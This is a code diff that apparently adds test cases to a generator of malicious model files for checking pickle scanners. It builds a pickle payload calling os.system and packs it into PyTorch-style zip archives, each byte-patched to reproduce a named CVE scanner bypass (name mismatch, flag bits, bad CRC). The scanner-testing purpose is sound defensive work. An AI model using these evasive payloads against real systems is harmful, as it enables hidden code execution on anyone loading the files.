@@ -318,6 +318,50 @@ def _():
     return magic + rest
 
 
+PAYLOAD = PROTO(2) + glob("os", "system") + CMD + TUPLE1 + REDUCE + STOP
+
+
+def torch_zip(mutate) -> bytes:
+    """A PyTorch-style zip (archive/data.pkl, archive/version) holding the payload, then `mutate`
+    patches its bytes the way the zip bypasses did. zipfile only assembles the container."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as z:
+        z.writestr("archive/data.pkl", PAYLOAD)
+        z.writestr("archive/version", b"3\n")
+    return mutate(bytearray(buffer.getvalue()))
+
+
+def _central(data: bytearray) -> int:
+    return data.index(b"PK\x01\x02")
+
+
+@case("torch_zip_name_mismatch_CVE-2025-1944.pt")
+def _():  # the local header says data.xxx, the central directory (which the loader reads) data.pkl
+    def mutate(d):
+        local = d.index(b"archive/data.pkl")
+        d[local:local + 16] = b"archive/data.xxx"
+        return bytes(d)
+    return torch_zip(mutate)
+
+
+@case("torch_zip_flag_bits_CVE-2025-1945.pt")
+def _():  # encryption and patch flags set: scanners that honour them skip the member; loaders don't
+    def mutate(d):
+        struct.pack_into("<H", d, 6, 0x61)
+        struct.pack_into("<H", d, _central(d) + 8, 0x61)
+        return bytes(d)
+    return torch_zip(mutate)
+
+
+@case("torch_zip_bad_crc_CVE-2025-10156.pt")
+def _():  # a wrong CRC: strict zip readers raise, PyTorch's reader does not check it
+    def mutate(d):
+        struct.pack_into("<I", d, 14, 0xDEADBEEF)
+        struct.pack_into("<I", d, _central(d) + 16, 0xDEADBEEF)
+        return bytes(d)
+    return torch_zip(mutate)
+
+
 def main() -> None:
     OUT.mkdir(exist_ok=True)
     for old in OUT.iterdir():
